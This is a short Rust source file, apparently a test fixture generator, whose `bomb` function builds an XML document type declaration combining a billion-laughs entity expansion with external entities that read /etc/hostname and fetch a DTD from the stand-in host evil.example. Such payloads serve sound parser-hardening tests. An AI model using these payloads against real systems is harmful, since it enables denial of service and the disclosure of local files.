//! A declaration of entities made to explode.

use std::fmt::Write;

/// A document type: `a0` stands for `first`, each of `a1` to `a9` for ten of the one before; two more name a file and an
/// address.
pub fn bomb(first: &str) -> String {
    let mut declared = format!("<!DOCTYPE x [<!ENTITY a0 \"{first}\">");
    for level in 1..10 {
        let _ = write!(declared, "<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    }
    declared
        + "<!ENTITY file SYSTEM \"file:///etc/hostname\"><!ENTITY % far SYSTEM \"http://evil.example/x.dtd\">%far;]>"
}
